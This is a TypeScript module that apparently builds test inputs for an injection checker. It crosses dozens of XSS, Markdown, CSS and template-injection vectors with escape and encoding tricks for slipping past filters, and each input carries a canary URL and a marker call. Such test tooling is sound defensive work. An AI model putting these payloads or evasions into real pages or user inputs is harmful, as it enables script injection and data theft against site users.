/** Text that is markup, script, Markdown, style or an address to whoever does not take it for text. */
export interface Injection {
  /** Stands in it as one word, however it is written. */
  readonly canary: string;
  readonly text: string;
}

/** What the page is made to call by one that runs. */
export const RAN = "countersignRan";

/** `url` leads to the collector; `run` calls {@link RAN}. */
type Vector = (url: string, run: string) => string;

const OF_MARKUP: readonly Vector[] = [
  (url, run) => `<script>${run}</script><!--${url}-->`,
  (url) => `<script src=${url}></script>`,
  (url) => `<script src="${url}" type=module></script>`,
  (url, run) => `<img src="${url}" onerror=${run}>`,
  (url) => `<img srcset="${url} 1x" loading=eager>`,
  (url, run) => `<picture><source srcset="${url}"><img onerror=${run} src=x></picture>`,
  (url, run) => `<svg onload=${run}><image href="${url}"/></svg>`,
  (url) => `<svg><script href="${url}"/></svg>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url, run) => `<svg><animate onbegin=${run} attributeName=x dur=1s /><text>${url}</text></svg>`,
  (url, run) => `<math><mtext><table><mglyph><style><img src=${url} onerror=${run}></style></mglyph></table></mtext></math>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url, run) => `<iframe srcdoc="<script>parent.${run}</script>${url}"></iframe>`,
  (url, run) => `<iframe src="javascript:parent.${run}//${url}"></iframe>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url, run) => `<video src="${url}" onerror=${run} autoplay></video>`,
  (url, run) => `<video poster="${url}"><source onerror=${run} src=x></video>`,
  (url, run) => `<audio src=${url} autoplay onerror=${run}></audio>`,
  (url, run) => `<body onload=${run} background="${url}">`,
  (url, run) => `<input autofocus onfocus=${run} value="${url}">`,
  (url, run) => `<details open ontoggle=${run}>${url}</details>`,
  (url, run) => `<marquee onstart=${run}>${url}</marquee>`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=prefetch href="${url}">`,
  (url) => `<link rel=preload as=image href="${url}">`,
  (url) => `<style>@import url(${url});</style>`,
  (url) => `<style>body{background:url(${url})}</style>`,
  (url) => `<div style="background-image:url(${url})">x</div>`,
  (url) => `<p style="display:list-item;list-style:url('${url}')">x</p>`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}/">`,
  (url) => `<form action="${url}"><button autofocus>Approved ✓</button></form>`,
  (url) => `<a href="${url}" ping="${url}">Approved ✓</a>`,
  (url, run) => `<a href="javascript:${run}">${url}</a>`,
  (url) => `<template shadowrootmode=open><img src=${url}></template>`,
  (url, run) => `<noscript><p title="</noscript><img src=${url} onerror=${run}>">`,
];
const OF_OTHER_LANGUAGES: readonly Vector[] = [
  (url) => `![approved](${url})`,
  (url) => `![approved][1]\n\n[1]: ${url}`,
  (url, run) => `[approve](javascript:${run}) ${url}`,
  (url) => `[approved ✓](${url} "approved")`,
  (url) => `<${url}>`,
  (url) => `| approved |\n| --- |\n| ![x](${url}) |`,
  (url, run) => `javascript:${run}//${url}`,
  (url, run) => `data:text/html,<script>${run}</script>#${url}`,
  (url, run) => `{{constructor.constructor('${run}')()}} ${url}`,
  (url, run) => `\${${run}} ${url}`,
  (url) => `;}*{background:url(${url})}`,
  (url) => `@import '${url}';`,
  (url, run) => `" autofocus onfocus=${run} style="background:url(${url})`,
];

/** How it breaks out of where it was put, or gets past whoever looks for it. */
const WAYS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</script>${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => `-->${text}`,
  (text) => `]]>${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => text.replaceAll(/<\/?[a-z]+/gu, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll(/[<>"']/gu, (sign) => `&#${String(sign.charCodeAt(0))};`),
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll(/(<[a-z]+) /gu, "$1/"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
];

/** Every vector in every way, each with a canary of its own at `origin`. */
export function injectionsAt(origin: string): readonly Injection[] {
  return [...OF_MARKUP, ...OF_OTHER_LANGUAGES]
    .flatMap((vector) => WAYS.map((way) => ({ vector, way })))
    .map(({ vector, way }, number) => {
      const canary = `canary${String(number).padStart(4, "0")}x`;
      return { canary, text: way(vector(`${origin}/${canary}`, `${RAN}(${String(number)})`)) };
    });
}
